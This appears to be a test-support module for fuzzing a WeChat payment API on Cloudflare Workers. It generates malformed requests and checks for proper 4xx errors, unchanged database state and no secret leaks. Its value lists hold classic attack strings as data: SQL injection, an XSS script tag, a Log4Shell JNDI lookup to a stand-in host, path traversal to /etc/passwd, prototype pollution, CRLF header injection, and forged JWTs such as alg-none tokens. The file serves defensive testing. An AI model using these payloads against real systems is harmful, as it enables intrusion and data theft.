/**
 * @module test/support/hostile — a small seeded generator of malformed requests, and the two
 * oracles the hostile-input suite applies to every answer:
 *
 *  - `checkAnswer`: only a documented 4xx with the error envelope `{error:{code,message,requestId}}`
 *    (notify: `{code:"FAIL",message}`), never a 5xx;
 *  - `dbSnapshot`: every table's rows, so "nothing was written" is an exact comparison;
 *  - `SecretWatch`: records every response (status line, headers, body), every log line, every
 *    session_key the simulator issued and every token the Worker issued, and scans them all for
 *    secrets at the end.
 *
 * Deterministic: everything random comes from `Rng(seed)`; a failing case prints its label and
 * seed so it can be replayed.
 */
import { env } from "cloudflare:workers";
import { expect } from "vitest";
import { sessionKeys } from "../../src/auth/keys";
import { signToken, type SessionClaims } from "../../src/auth/token";
import { toBase64Url, utf8 } from "../../src/lib/encoding";
import * as keys from "../fixtures/keys";
import type { World } from "./world";

// -------------------------------------------------------------------------------------------------
// Seeded randomness
// -------------------------------------------------------------------------------------------------

/** mulberry32: tiny, fast, good enough to pick test cases. */
export class Rng {
  private s: number;
  constructor(readonly seed: number) {
    this.s = seed >>> 0;
  }
  next(): number {
    this.s = (this.s + 0x6d2b79f5) >>> 0;
    let t = this.s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.next() * xs.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  /** A string of `n` characters drawn from hostile alphabets (controls, RTL marks, emoji, CJK, quotes). */
  nastyString(n: number): string {
    const alphabets = [
      "abcdefghijklmnopqrstuvwxyz0123456789",
      "\u0000\u0001\u0007\b\t\n\u000b\f\r\u001b\u007f",
      "\u200b\u200d\u202e\u2066\ufeff\ufffd",
      "'\"`\\/<>&%;{}[]$*?#|",
      "订单支付微信测试ÅßçΩ√",
      "💳🧧👩‍👩‍👧‍👦🏳️‍🌈",
    ];
    let out = "";
    while (out.length < n) {
      const a = this.pick(alphabets);
      out += [...a][Math.floor(this.next() * [...a].length)];
    }
    return out;
  }
}

// -------------------------------------------------------------------------------------------------
// Hostile values
// -------------------------------------------------------------------------------------------------

/** JSON values of every wrong kind. Strings stay below the 64 KB body limit unless `huge`. */
export function hostileValues(rng: Rng): unknown[] {
  const deep = (n: number): unknown => (n === 0 ? 1 : [deep(n - 1)]);
  return [
    null,
    true,
    false,
    0,
    -0,
    -1,
    1.5,
    0.1,
    -1e308,
    1e308,
    2 ** 31,
    2 ** 53,
    2 ** 53 + 2,
    Number.MIN_VALUE,
    "",
    " ",
    "\u0000",
    "a\u0000b",
    "\r\n\t",
    "\u202eevil",
    "\ud800",
    "\udfff\ud800",
    "💳".repeat(50),
    "订单",
    "NaN",
    "Infinity",
    "-1",
    "1e999",
    "0x10",
    "null",
    "undefined",
    "true",
    "' OR '1'='1' --",
    "\"; DROP TABLE orders; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "../../../../etc/passwd",
    "%00%2F%2e%2e",
    "x".repeat(257),
    "x".repeat(5000),
    rng.nastyString(rng.int(1, 300)),
    [],
    [1, 2, 3],
    [null],
    ["prod_coffee"],
    {},
    { $gt: "" },
    { __proto__: { admin: true } },
    JSON.parse('{"__proto__":{"polluted":1}}'),
    { constructor: { prototype: { polluted: 1 } } },
    deep(200),
    Array.from({ length: 2000 }, (_, i) => i),
  ];
}

/** Raw JSON number tokens JSON.stringify never writes (some are not JSON at all). */
export const RAW_NUMBER_TOKENS = ["NaN", "-NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e-999", "-0", "0x10", "01", "1.", ".5", "+1", "1_000", "99.0000000000000001", "1E2", "9007199254740993"];

/** Keys a client must never be able to smuggle in (prices, identities) plus junk. */
export const EXTRA_KEYS = ["__proto__", "constructor", "prototype", "openid", "userId", "price", "amount", "unitPrice", "total", "status", "isAdmin", "", " ", "\u0000", "订单", "a".repeat(300)];

// -------------------------------------------------------------------------------------------------
// Body mutations
// -------------------------------------------------------------------------------------------------

export type JsonPath = (string | number)[];

export interface BodyCase {
  label: string;
  /** Exact bytes to send. */
  body: string | Uint8Array | ReadableStream<Uint8Array> | null;
  contentType: string | null;
}

function clone<T>(v: T): T {
  return JSON.parse(JSON.stringify(v)) as T;
}

function setAt(obj: unknown, path: JsonPath, value: unknown): unknown {
  if (path.length === 0) return value;
  const root = clone(obj) as Record<string | number, unknown>;
  let cur = root as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  Object.defineProperty(cur, path[path.length - 1]!, { value, enumerable: true, writable: true, configurable: true });
  return root;
}

function deleteAt(obj: unknown, path: JsonPath): unknown {
  const root = clone(obj) as Record<string | number, unknown>;
  let cur = root as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  const last = path[path.length - 1]!;
  if (Array.isArray(cur)) cur.splice(last as number, 1);
  else delete cur[last];
  return root;
}

/** Every path of a JSON value (objects and arrays included), root excluded. */
export function pathsOf(v: unknown, prefix: JsonPath = []): JsonPath[] {
  if (v === null || typeof v !== "object") return [];
  const out: JsonPath[] = [];
  for (const [k, child] of Object.entries(v)) {
    const p = [...prefix, Array.isArray(v) ? Number(k) : k];
    out.push(p, ...pathsOf(child, p));
  }
  return out;
}

/** Object paths (including the root) where an unknown key can be added. */
function objectPaths(v: unknown, prefix: JsonPath = []): JsonPath[] {
  if (v === null || typeof v !== "object") return [];
  const out: JsonPath[] = Array.isArray(v) ? [] : [prefix];
  for (const [k, child] of Object.entries(v)) out.push(...objectPaths(child, [...prefix, Array.isArray(v) ? Number(k) : k]));
  return out;
}

const JSON_CT = "application/json";

export interface MutationOptions {
  /** Which of the generated values would accidentally be VALID at `path` (skipped). */
  acceptable?: (path: JsonPath, value: unknown) => boolean;
  /** Paths whose deletion leaves the body valid (optional fields). */
  optional?: (path: JsonPath) => boolean;
  /** Paths that must not receive a wrong value (default: all may). */
  mutable?: (path: JsonPath) => boolean;
  /** Whether adding an unknown key makes the body invalid (strict schemas; default true). */
  extraKeysInvalid?: boolean;
}

/**
 * `n` malformed variants of the valid body `valid`, chosen by the seeded `rng`: a field set to a
 * wrong value, a field removed, an unknown key added, a raw token spliced in, the whole body
 * replaced, the JSON truncated or broken, the content type wrong. Each variant is invalid.
 */
export function mutateBody(valid: unknown, rng: Rng, n: number, opts: MutationOptions = {}): BodyCase[] {
  const values = hostileValues(rng);
  const paths = pathsOf(valid).filter((p) => opts.mutable?.(p) ?? true);
  const required = pathsOf(valid).filter((p) => !(opts.optional?.(p) ?? false));
  const objects = objectPaths(valid);
  const validText = JSON.stringify(valid);
  const out: BodyCase[] = [];
  const json = (label: string, v: unknown): BodyCase => ({ label, body: JSON.stringify(v), contentType: JSON_CT });
  const strategies: (() => BodyCase | null)[] = [
    // a wrong value at one path
    () => {
      const p = rng.pick(paths);
      const v = rng.pick(values);
      if (opts.acceptable?.(p, v)) return null;
      return json(`set ${p.join(".")} = ${preview(v)}`, setAt(valid, p, v));
    },
    // a required field removed
    () => {
      if (required.length === 0) return null;
      const p = rng.pick(required);
      return json(`delete ${p.join(".")}`, deleteAt(valid, p));
    },
    // an unknown key added to some object
    () => {
      if (opts.extraKeysInvalid === false) return null;
      const p = rng.pick(objects);
      const k = rng.pick(EXTRA_KEYS);
      const v = rng.pick(values);
      return json(`extra ${[...p, k].join(".")} = ${preview(v)}`, setAt(valid, [...p, k], v));
    },
    // a raw token that JSON.stringify would never write, spliced in place of a leaf
    () => {
      const p = rng.pick(paths);
      const marker = "\u0001MARK\u0001";
      const tok = rng.pick(RAW_NUMBER_TOKENS);
      const text = JSON.stringify(setAt(valid, p, marker)).replace(JSON.stringify(marker), tok);
      if (opts.acceptable?.(p, safeParse(tok))) return null;
      return { label: `raw ${p.join(".")} = ${tok}`, body: text, contentType: JSON_CT };
    },
    // the whole body replaced by a wrong kind of value
    () => {
      const v = rng.pick(values);
      return json(`body = ${preview(v)}`, v);
    },
    // valid JSON cut short
    () => {
      const cut = rng.int(0, validText.length - 1);
      return { label: `truncated at ${cut}`, body: validText.slice(0, cut), contentType: JSON_CT };
    },
    // one byte of valid JSON replaced by garbage
    () => {
      const i = rng.int(0, validText.length - 1);
      const ch = rng.pick(["\u0000", "{", "}", "\"", ",", "\\", "'", "\u007f", "\u2028"]);
      const text = validText.slice(0, i) + ch + validText.slice(i + 1);
      if (safeParse(text) !== undefined) return null; // still valid JSON: not this strategy's business
      return { label: `byte ${i} = ${JSON.stringify(ch)}`, body: text, contentType: JSON_CT };
    },
    // JSON-ish dialects
    () => {
      const variants: [string, string][] = [
        ["trailing comma", validText.replace(/}$/, ",}")],
        ["single quotes", validText.replaceAll('"', "'")],
        ["comment", `/* hi */${validText}`],
        ["two documents", `${validText}${validText}`],
        ["nul suffix", `${validText}\u0000`],
        ["unquoted keys", validText.replace(/"(\w+)":/g, "$1:")],
        ["deep nesting", "[".repeat(30_000) + "]".repeat(30_000)],
        ["deep objects", '{"a":'.repeat(10_000) + "1" + "}".repeat(10_000)],
      ];
      const [label, text] = rng.pick(variants);
      return { label, body: text, contentType: JSON_CT };
    },
    // invalid UTF-8 inside a string
    () => {
      const bytes = utf8(validText);
      const at = validText.indexOf('"', 2) + 1 || 1;
      const junk = rng.pick([[0xff], [0xc3], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf]]);
      const out2 = new Uint8Array(bytes.length + junk.length);
      out2.set(bytes.slice(0, at));
      out2.set(junk, at);
      out2.set(bytes.slice(at), at + junk.length);
      return { label: `invalid utf-8 ${junk.map((b) => b.toString(16)).join(" ")}`, body: out2, contentType: JSON_CT };
    },
  ];
  let guard = 0;
  while (out.length < n && guard++ < n * 20) {
    const c = rng.pick(strategies)();
    if (c) out.push(c);
  }
  return out;
}

/** Bodies that are wrong whatever the route: empty, huge, wrong content types. `invalid` is a
 *  body that fails validation, so a content type that IS accepted still cannot succeed. */
export function envelopeCases(invalid: unknown): BodyCase[] {
  const text = JSON.stringify(invalid);
  const mb = 1024 * 1024;
  const bigJson = JSON.stringify({ pad: "x".repeat(mb) });
  return [
    { label: "no body", body: null, contentType: JSON_CT },
    { label: "empty body", body: "", contentType: JSON_CT },
    { label: "whitespace body", body: "   \n", contentType: JSON_CT },
    { label: "1 MB JSON", body: bigJson, contentType: JSON_CT },
    { label: "1 MB of zeros", body: new Uint8Array(mb), contentType: JSON_CT },
    { label: "1 MB streamed (no content-length)", body: streamOf(utf8(bigJson), 16 * 1024), contentType: JSON_CT },
    { label: "70 KB array", body: JSON.stringify(Array.from({ length: 14_000 }, () => 12345)), contentType: JSON_CT },
    { label: "no content type", body: text, contentType: null },
    { label: "text/plain", body: text, contentType: "text/plain" },
    { label: "form", body: "code=abc&items=1", contentType: "application/x-www-form-urlencoded" },
    { label: "multipart", body: "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n", contentType: "multipart/form-data; boundary=x" },
    { label: "xml", body: "<a>1</a>", contentType: "application/xml" },
    { label: "json utf-16", body: text, contentType: "application/json; charset=utf-16" },
    { label: "jsonx", body: text, contentType: "application/jsonx" },
    { label: "upper-case json", body: text, contentType: "APPLICATION/JSON" },
    { label: "json with junk parameter", body: text, contentType: "application/json; charset=\"" },
    { label: "content type garbage", body: text, contentType: "}{;;==" },
  ];
}

function streamOf(bytes: Uint8Array, chunk: number): ReadableStream<Uint8Array> {
  let i = 0;
  return new ReadableStream<Uint8Array>({
    pull(ctrl) {
      if (i >= bytes.length) return ctrl.close();
      ctrl.enqueue(bytes.slice(i, i + chunk));
      i += chunk;
    },
  });
}

function safeParse(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

export function preview(v: unknown): string {
  let s: string;
  try {
    s = JSON.stringify(v) ?? String(v);
  } catch {
    s = String(v);
  }
  return s.length > 40 ? `${s.slice(0, 37)}…(${s.length})` : s;
}

// -------------------------------------------------------------------------------------------------
// Odd path segments and query strings
// -------------------------------------------------------------------------------------------------

export const ODD_IDS = [
  "%00",
  "%2F",
  "..",
  "%2e%2e",
  "..%2F..%2Fadmin",
  "%252e",
  "%E0%A4%A",
  "%ZZ",
  "%F0%9F%92%B3",
  encodeURIComponent("订单"),
  encodeURIComponent("' OR '1'='1"),
  encodeURIComponent("1; DROP TABLE orders"),
  encodeURIComponent("\u202e"),
  encodeURIComponent(" "),
  "ord_" + "A".repeat(60),
  "A".repeat(65),
  "A".repeat(5000),
  "null",
  "undefined",
  "0",
  "-1",
  "__proto__",
  "constructor",
  "%20ord_X",
  "ord_X%0d%0aSet-Cookie:%20a=b",
];

export function oddQueryValues(rng: Rng): string[] {
  return [
    "",
    "-1",
    "0",
    "1.5",
    "101",
    "1e9",
    "NaN",
    "Infinity",
    "abc",
    "%00",
    "%ZZ",
    "9".repeat(400),
    encodeURIComponent(rng.nastyString(20)),
    encodeURIComponent("x".repeat(300)),
    "true&limit=5",
  ];
}

// -------------------------------------------------------------------------------------------------
// Tokens
// -------------------------------------------------------------------------------------------------

const b64json = (v: unknown) => toBase64Url(utf8(JSON.stringify(v)));

/** Session tokens an attacker (or time) could present. `valid` is a real token (to tamper with). */
export async function forgedTokens(valid: string, clockSeconds: number): Promise<{ label: string; header: string | null }[]> {
  const [h, p, s] = valid.split(".") as [string, string, string];
  const claims = JSON.parse(new TextDecoder().decode(fromB64url(p))) as Record<string, unknown>;
  const { tokenKey } = await sessionKeys(keys.SESSION_SECRET);
  const wrongKey = await crypto.subtle.importKey("raw", utf8("not-the-session-secret-0123456789abcdef"), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  const hs = async (key: CryptoKey, header: unknown, payload: unknown) => {
    const input = `${b64json(header)}.${b64json(payload)}`;
    return `${input}.${toBase64Url(await crypto.subtle.sign("HMAC", key, utf8(input)))}`;
  };
  const expired = await signToken(tokenKey, { ...(claims as unknown as SessionClaims), iat: clockSeconds - 10_000, exp: clockSeconds - 1 });
  const noExp = await hs(tokenKey, { alg: "HS256", typ: "JWT" }, { sub: claims.sub, oid: claims.oid, iat: clockSeconds });
  const bearer = (t: string) => `Bearer ${t}`;
  return [
    { label: "missing", header: null },
    { label: "empty", header: "" },
    { label: "Bearer only", header: "Bearer" },
    { label: "Bearer space", header: "Bearer " },
    { label: "lower-case scheme", header: `bearer ${valid}` },
    { label: "Basic", header: `Basic ${btoa("a:b")}` },
    { label: "two spaces", header: `Bearer  ${valid}` },
    { label: "trailing junk", header: `Bearer ${valid} x` },
    { label: "garbage", header: bearer("abc.def.ghi") },
    { label: "not base64", header: bearer("!!!.???.***") },
    { label: "one segment", header: bearer(h) },
    { label: "four segments", header: bearer(`${valid}.x`) },
    { label: "alg none, no signature", header: bearer(`${b64json({ alg: "none", typ: "JWT" })}.${p}.`) },
    { label: "alg none, old signature", header: bearer(`${b64json({ alg: "none", typ: "JWT" })}.${p}.${s}`) },
    { label: "alg NONE", header: bearer(`${b64json({ alg: "NONE" })}.${p}.`) },
    { label: "HS512 header", header: bearer(`${b64json({ alg: "HS512", typ: "JWT" })}.${p}.${s}`) },
    { label: "RS256 header", header: bearer(`${b64json({ alg: "RS256", typ: "JWT" })}.${p}.${s}`) },
    { label: "wrong key", header: bearer(await hs(wrongKey, { alg: "HS256", typ: "JWT" }, claims)) },
    { label: "expired (real key)", header: bearer(expired) },
    { label: "no exp (real key)", header: bearer(noExp) },
    { label: "tampered sub", header: bearer(`${h}.${b64json({ ...claims, sub: "usr_SOMEONEELSE0000000" })}.${s}`) },
    { label: "tampered exp", header: bearer(`${h}.${b64json({ ...claims, exp: 99_999_999_999 })}.${s}`) },
    { label: "signature cut", header: bearer(`${h}.${p}.${s.slice(0, -4)}`) },
    // The second-to-last character changed (to "A", or "B" if it is "A": a 1-in-64 no-op otherwise).
    { label: "signature flipped", header: bearer(`${h}.${p}.${s.slice(0, -2)}${s.at(-2) === "A" ? "B" : "A"}${s.slice(-1)}`) },
    { label: "huge token", header: bearer(`${h}.${"A".repeat(20_000)}.${s}`) },
    { label: "admin token as session", header: bearer(keys.ADMIN_TOKEN) },
    { label: "control characters", header: `Bearer ${valid}\u0001` },
  ].filter((t) => t.header === null || isByteString(t.header));
}

/** Headers must be ByteStrings; drop the few that `Headers` itself would refuse to carry. */
function isByteString(s: string): boolean {
  try {
    new Headers({ authorization: s });
    return true;
  } catch {
    return false;
  }
}

function fromB64url(s: string): Uint8Array {
  const b = atob(s.replace(/-/g, "+").replace(/_/g, "/") + "===".slice((s.length + 3) % 4));
  return Uint8Array.from(b, (c) => c.charCodeAt(0));
}

// -------------------------------------------------------------------------------------------------
// Oracles
// -------------------------------------------------------------------------------------------------

const TABLES = [
  "users",
  "rate_limits",
  "products",
  "orders",
  "order_items",
  "order_events",
  "notifications",
  "flags",
  "refunds",
  "fulfilments",
  "platform_certificates",
  "kv",
  "reconcile_runs",
  "bill_diffs",
  "wx_push_events",
  "shippings",
] as const;
export type Table = (typeof TABLES)[number];

/** Every row of every table, in one D1 round trip. */
export async function dbSnapshot(exclude: readonly Table[] = []): Promise<Record<string, string>> {
  const tables = TABLES.filter((t) => !exclude.includes(t));
  const results = await env.DB.batch(tables.map((t) => env.DB.prepare(`SELECT * FROM ${t} ORDER BY rowid`)));
  const out: Record<string, string> = {};
  tables.forEach((t, i) => (out[t] = JSON.stringify(results[i]!.results)));
  return out;
}

export interface Answer {
  status: number;
  body: string;
  headers: Headers;
}

export async function answerOf(res: Response): Promise<Answer> {
  return { status: res.status, body: await res.text(), headers: res.headers };
}

/**
 * A failing answer as the API documents it: the status is one of `allowed` (never 5xx), and the
 * body is the error envelope whose `requestId` equals `X-Request-Id` and whose code maps to
 * the status.
 */
export function expectApiError(a: Answer, allowed: readonly number[], label: string): void {
  const where = `${label} → ${a.status} ${a.body.slice(0, 300)}`;
  expect(a.status, where).toBeLessThan(500);
  expect(allowed, where).toContain(a.status);
  let parsed: unknown;
  try {
    parsed = JSON.parse(a.body);
  } catch {
    throw new Error(`${where}: body is not JSON`);
  }
  const e = (parsed as { error?: Record<string, unknown> }).error;
  expect(e, where).toBeTypeOf("object");
  expect(Object.keys(parsed as object), where).toEqual(["error"]);
  expect(e!.code, where).toMatch(/^[a-z][a-z_]*$/);
  expect(e!.message, where).toBeTypeOf("string");
  expect(e!.requestId, where).toBe(a.headers.get("x-request-id"));
  expect(a.headers.get("content-type") ?? "", where).toMatch(/^application\/json/);
}

/** The notify route's failure shape: `{code:"FAIL", message}` with a 4xx. */
export function expectNotifyFailure(a: Answer, allowed: readonly number[], label: string): void {
  const where = `${label} → ${a.status} ${a.body.slice(0, 300)}`;
  expect(a.status, where).toBeLessThan(500);
  expect(allowed, where).toContain(a.status);
  const parsed = JSON.parse(a.body) as Record<string, unknown>;
  expect(parsed.code, where).toBe("FAIL");
  expect(parsed.message, where).toBeTypeOf("string");
  expect(Object.keys(parsed).sort(), where).toEqual(["code", "message"]);
  expect(a.headers.get("x-request-id"), where).toBeTruthy();
}

// -------------------------------------------------------------------------------------------------
// Secrets
// -------------------------------------------------------------------------------------------------

/** Lines of a PEM body long enough to be unique fragments of the key. */
function pemFragments(pem: string): string[] {
  return pem
    .split("\n")
    .filter((l) => l.length >= 40 && !l.startsWith("-----"));
}

interface Recorded {
  what: string;
  text: string;
  /** Secrets this text may legitimately contain (the login answer carries its own token). */
  allowed: Set<string>;
}

/**
 * Watches a World: every response it gives (to the test and to the simulator's notifier), every
 * log line, every session_key jscode2session handed out. `scan()` at the end looks for every
 * secret in all of it.
 */
/** String values of 8+ characters in a decrypted object (shorter ones, like "zh_CN", are too common to scan for). */
function stringLeaves(v: unknown, out: string[] = []): string[] {
  if (typeof v === "string" && v.length >= 8) out.push(v);
  else if (v && typeof v === "object") for (const x of Object.values(v)) stringLeaves(x, out);
  return out;
}

export class SecretWatch {
  readonly recorded: Recorded[] = [];
  readonly sessionKeys = new Set<string>();
  readonly tokens = new Set<string>();
  /** Access tokens stable_token issued, and phone numbers getuserphonenumber revealed (SPEC §9). */
  readonly accessTokens = new Set<string>();
  readonly phones = new Set<string>();
  /** checksession signatures the Worker sent (they prove a session_key), and string values of decrypted open data. */
  readonly sessionSignatures = new Set<string>();
  readonly openData = new Set<string>();
  responses = 0;

  constructor(private readonly w: World) {
    const appFetch = w.fetch.bind(w);
    w.fetch = async (req: Request) => {
      const res = await appFetch(req);
      const text = await res.clone().text();
      this.responses++;
      const allowed = new Set<string>();
      if (req.url.endsWith("/v1/auth/login") && res.status === 200) {
        const token = (JSON.parse(text) as { token: string }).token;
        this.tokens.add(token);
        allowed.add(token);
      }
      // Its owner gets the number back once, from this route only.
      if (req.url.endsWith("/v1/users/me/phone") && res.status === 200) {
        allowed.add((JSON.parse(text) as { phone: { purePhoneNumber: string } }).phone.purePhoneNumber);
      }
      // Decrypted open data goes to its owner in this answer only.
      if (req.url.endsWith("/v1/users/me/open-data") && res.status === 200) {
        for (const v of stringLeaves((JSON.parse(text) as { data: unknown }).data)) {
          this.openData.add(v);
          allowed.add(v);
        }
      }
      const headers = [...res.headers].map(([k, v]) => `${k}: ${v}`).join("\n");
      this.recorded.push({ what: `response to ${req.method} ${req.url.slice(0, 120)} (${res.status})`, text: `${res.status}\n${headers}\n\n${text}`, allowed });
      return res;
    };
    const outbound = w.deps.fetch;
    w.deps.fetch = async (input, init) => {
      const res = await outbound(input, init);
      const url = input instanceof Request ? input.url : String(input);
      if (url.includes("/cgi-bin/stable_token") || url.includes("/wxa/business/getuserphonenumber")) {
        try {
          const body = (await res.clone().json()) as { access_token?: string; phone_info?: { purePhoneNumber?: string } };
          if (body.access_token) this.accessTokens.add(body.access_token);
          if (body.phone_info?.purePhoneNumber) this.phones.add(body.phone_info.purePhoneNumber);
        } catch {
          /* a fault's non-JSON answer */
        }
      }
      if (url.includes("/wxa/checksession")) {
        const signature = new URL(url).searchParams.get("signature");
        if (signature) this.sessionSignatures.add(signature);
      }
      if (url.includes("/sns/jscode2session")) {
        try {
          const body = (await res.clone().json()) as { session_key?: string };
          if (body.session_key) this.sessionKeys.add(body.session_key);
        } catch {
          /* a fault's non-JSON answer */
        }
      }
      return res;
    };
  }

  /** Every secret we know of, with a name for the report. */
  secrets(): [string, string][] {
    const out: [string, string][] = [];
    for (const [name, pem] of [
      ["merchant private key", keys.MERCHANT_PRIVATE_KEY],
      ["platform 1 private key", keys.PLATFORM1_PRIVATE_KEY],
      ["platform 2 private key", keys.PLATFORM2_PRIVATE_KEY],
      ["public-key private key", keys.PUBLIC_KEY_PRIVATE],
    ] as const) {
      for (const f of pemFragments(pem)) out.push([name, f]);
    }
    out.push(["APIv3 key", keys.APIV3_KEY], ["AppSecret", keys.APPSECRET], ["SESSION_SECRET", keys.SESSION_SECRET], ["ADMIN_TOKEN", keys.ADMIN_TOKEN]);
    out.push(["WX_PUSH_TOKEN", keys.PUSH_TOKEN], ["WX_PUSH_AES_KEY", keys.PUSH_AES_KEY], ["WX_PUSH_AES_KEY_PREVIOUS", keys.PUSH_AES_KEY_OLD]);
    for (const p of this.w.sim.pushes) out.push(["decrypted push", p.message]);
    for (const k of this.sessionKeys) out.push(["session_key", k]);
    for (const t of this.accessTokens) out.push(["access token", t], ["access token (middle)", t.slice(20, 60)]);
    for (const p of this.phones) out.push(["phone number", p]);
    for (const s of this.sessionSignatures) out.push(["checksession signature", s]);
    for (const v of this.openData) out.push(["decrypted open data", v]);
    for (const t of this.tokens) {
      out.push(["session token", t]);
      // The signature alone identifies the token too (a log that cuts the token still leaks it).
      out.push(["session token signature", t.split(".")[2]!]);
    }
    for (const n of this.w.sim.notifications) {
      const plain = JSON.stringify(n.resource);
      out.push(["decrypted notification", plain]);
      if (plain.length > 60) out.push(["decrypted notification (head)", plain.slice(0, 60)]);
    }
    return out;
  }

  /** Scans every recorded response and every log line; returns the leaks found. */
  scan(): string[] {
    const secrets = this.secrets();
    const texts: Recorded[] = [...this.recorded, ...this.w.logs.map((l, i) => ({ what: `log line ${i}`, text: l, allowed: new Set<string>() }))];
    const leaks: string[] = [];
    for (const r of texts) {
      // Logs and bodies are JSON: a secret may appear JSON-escaped (PEM newlines, quotes).
      const hay = `${r.text}\n${safeUnescape(r.text)}`;
      for (const [name, s] of secrets) {
        if (r.allowed.has(s) || (name === "session token signature" && [...r.allowed].some((a) => a.endsWith(s)))) continue;
        if (hay.includes(s)) leaks.push(`${name} in ${r.what}: …${r.text.slice(Math.max(0, r.text.indexOf(s) - 60), r.text.indexOf(s) + 20)}…`);
      }
    }
    return leaks;
  }

  /**
   * The same question for big runs (thousands of answers and log lines), in linear time: static
   * secrets by substring over everything at once; tokens, token signatures and session keys by
   * exact lookup of every base64-ish run; decrypted bodies by the field names only a decrypted
   * resource has (`bank_type`, `trade_state_desc`, `payer_total`, `user_received_account`).
   */
  scanFast(): string[] {
    const leaks: string[] = [];
    const logs = this.w.logs.map((l) => ({ what: "log line", text: l, allowed: new Set<string>() }));
    const all = [...this.recorded, ...logs];
    const big = all.map((r) => `${r.text}\n${safeUnescape(r.text)}`).join("\n\u0000\n");
    for (const [name, s] of this.secrets().filter(([n]) => !["session token", "session token signature", "session_key", "decrypted notification", "decrypted notification (head)", "decrypted open data"].includes(n))) {
      if (big.includes(s)) leaks.push(`${name} somewhere in ${all.length} answers and log lines`);
    }
    const dynamic = new Map<string, string>();
    for (const t of this.tokens) dynamic.set(t.split(".")[2]!, "session token");
    for (const k of this.sessionKeys) dynamic.set(k, "session_key");
    for (const t of this.accessTokens) dynamic.set(t, "access token");
    for (const p of this.phones) {
      for (const r of all) if (r.text.includes(p) && !r.allowed.has(p)) leaks.push(`phone number in ${r.what}`);
    }
    for (const v of this.openData) {
      for (const r of all) if (r.text.includes(v) && !r.allowed.has(v)) leaks.push(`decrypted open data in ${r.what}`);
    }
    const runs = /[A-Za-z0-9_\-+/=]{20,}/g;
    for (const r of all) {
      for (const m of r.text.matchAll(runs)) {
        const hit = dynamic.get(m[0]) ?? dynamic.get(m[0].replace(/=+$/, "")) ;
        if (hit && ![...r.allowed].some((a) => a.includes(m[0]))) leaks.push(`${hit} in ${r.what}: ${r.text.slice(0, 120)}`);
      }
      if (/bank_type|trade_state_desc|payer_total|user_received_account/.test(r.text)) leaks.push(`decrypted notification body in ${r.what}: ${r.text.slice(0, 160)}`);
    }
    return leaks;
  }

  /** Asserts no leak, and that the scan had material to work on. */
  expectNoLeak(min: { responses?: number; logs?: number; sessionKeys?: number; notifications?: number } = {}): void {
    expect(this.responses).toBeGreaterThanOrEqual(min.responses ?? 1);
    expect(this.w.logs.length).toBeGreaterThanOrEqual(min.logs ?? 1);
    expect(this.sessionKeys.size).toBeGreaterThanOrEqual(min.sessionKeys ?? 0);
    expect(this.w.sim.notifications.length).toBeGreaterThanOrEqual(min.notifications ?? 0);
    expect(this.scan()).toEqual([]);
  }
}

function safeUnescape(text: string): string {
  return text.replace(/\\n/g, "\n").replace(/\\"/g, '"').replace(/\\\\/g, "\\").replace(/\\\//g, "/");
}

// -------------------------------------------------------------------------------------------------
// Sending
// -------------------------------------------------------------------------------------------------

/** Sends a BodyCase with optional extra headers through the world (recorded by a SecretWatch). */
export async function send(
  w: World,
  method: string,
  path: string,
  c: Pick<BodyCase, "body" | "contentType">,
  headers: Record<string, string> = {},
): Promise<Answer> {
  const h = new Headers(headers);
  if (c.contentType !== null) h.set("content-type", c.contentType);
  const init: RequestInit & { duplex?: string } = { method, headers: h, body: c.body };
  if (c.body instanceof ReadableStream) init.duplex = "half";
  return answerOf(await w.fetch(new Request(`https://worker.test${path}`, init)));
}

/** Every WeChat call the simulator has answered so far. */
const wechatCalls = (w: World) => Object.values(w.sim.stats().calls).reduce((a, b) => a + b, 0);

/**
 * Runs `fn`; asserts no row of any table changed (but `exclude`d ones, e.g. rate_limits, where
 * failed admin authentications are counted) and (unless `wechat: false`, e.g. notify, whose
 * unknown serials may refresh certificates) that WeChat was not called.
 */
export async function untouched(w: World, fn: () => Promise<void>, opts: { wechat?: boolean; exclude?: readonly Table[] } = {}): Promise<void> {
  const before = await dbSnapshot(opts.exclude);
  const calls = wechatCalls(w);
  await fn();
  expect(await dbSnapshot(opts.exclude)).toEqual(before);
  if (opts.wechat !== false) expect(wechatCalls(w)).toBe(calls);
}
